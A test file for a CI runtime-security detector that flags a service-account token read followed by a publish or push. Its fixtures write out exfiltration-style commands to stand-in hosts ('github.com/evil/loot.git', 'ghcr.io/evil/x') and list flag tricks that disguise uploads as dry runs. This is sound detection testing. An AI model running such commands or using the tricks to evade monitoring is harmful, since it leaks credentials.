/**
 * A dry-run flag taken back later on the command line (found by red-team review): `npm publish --dry-run
 * --no-dry-run` and kaniko's `--no-push --no-push=false` upload (their parsers let the last one win), but
 * the first flag alone made them no push. A small package or image, under the egress threshold, was seen
 * by nothing.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

function secretThen(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'job-4', name: 'job' });
  const sh = s.init(c);
  s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 1_100).wait(2_000);
  const p = s.exec(c, binary, args, { parent: sh });
  s.wait(30).connect(p, '104.16.2.35', 443).wait(10).send(p, '104.16.2.35', 443, 20_000).wait(300).exit(p);
  return run(s.events).alerts;
}

describe('dry-run flags negated later', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`npm publish --dry-run --no-dry-run is a push (${source})`, () => {
      expect(
        brief(secretThen('/usr/local/bin/node', '/usr/local/bin/npm publish --dry-run --no-dry-run', source)),
      ).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'npm', destination: 'registry.npmjs.org' },
      ]);
    });
  }

  it('kaniko --no-push --no-push=false is a push', () => {
    expect(
      brief(secretThen('/kaniko/executor', '--context dir:///srv --no-push --no-push=false -d ghcr.io/evil/x:1')),
    ).toEqual([{ rule: 'sensitive-read-then-push', severity: 'high', tool: 'kaniko', destination: 'ghcr.io' }]);
  });

  // Found by review: git's `-n` is `--dry-run` by another name, and `--no-dry-run` takes it back too.
  it('git push -n --no-dry-run is a push', () => {
    expect(brief(secretThen('/usr/bin/git', 'push -n --no-dry-run https://github.com/evil/loot.git'))).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(secretThen('/usr/bin/git', 'push --no-dry-run -n https://github.com/evil/loot.git')).toEqual([]);
  });

  // Found by review: git's parse-options (and cargo's clap) bundle short flags, so `-vn` holds `-n`, a dry
  // run, which was taken for a push; a bundle without it still pushes.
  it('a dry run given in a bundle of short flags is no push; a bundle without -n pushes', () => {
    for (const args of ['push -vn origin main', 'push -fn origin main', 'push -nv origin', 'push -qn origin'])
      expect(secretThen('/usr/bin/git', args), args).toEqual([]);
    expect(secretThen('/usr/local/cargo/bin/cargo', 'publish -vn')).toEqual([]);
    for (const args of [
      'push -fu https://github.com/evil/loot.git main',
      'push -vn --no-dry-run https://github.com/evil/loot.git',
    ])
      expect(brief(secretThen('/usr/bin/git', args)), args).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
      ]);
  });

  // Found by review: what nopt and Go take for false was not all `false` and `0`.
  it('a dry-run or no-push flag given a false value of its parser is a push', () => {
    for (const flag of ['--dry-run=', '--dry-run=null', '--dry-run=00', '--dry-run=0x0'])
      expect(brief(secretThen('/usr/local/bin/node', `/usr/local/bin/npm publish ${flag}`)), flag).toMatchObject([
        { rule: 'sensitive-read-then-push', tool: 'npm' },
      ]);
    for (const flag of ['--no-push=f', '--no-push=F', '--no-push=False'])
      expect(brief(secretThen('/kaniko/executor', `${flag} -d ghcr.io/evil/x:1`)), flag).toMatchObject([
        { rule: 'sensitive-read-then-push', tool: 'kaniko' },
      ]);
    // nopt reads a following `true`/`false` as a boolean flag's value.
    for (const flag of ['--dry-run false', '--no-dry-run true'])
      expect(brief(secretThen('/usr/local/bin/node', `/usr/local/bin/npm publish ${flag}`)), flag).toMatchObject([
        { rule: 'sensitive-read-then-push', tool: 'npm' },
      ]);
    for (const flag of ['--dry-run=true', '--dry-run=1', '--dry-run=yes', '--dry-run true', '--no-dry-run false'])
      expect(secretThen('/usr/local/bin/node', `/usr/local/bin/npm publish ${flag}`), flag).toEqual([]);
  });

  it('a dry run that stays one is quiet', () => {
    expect(secretThen('/usr/local/bin/node', '/usr/local/bin/npm publish --no-dry-run --dry-run')).toEqual([]);
  });
});
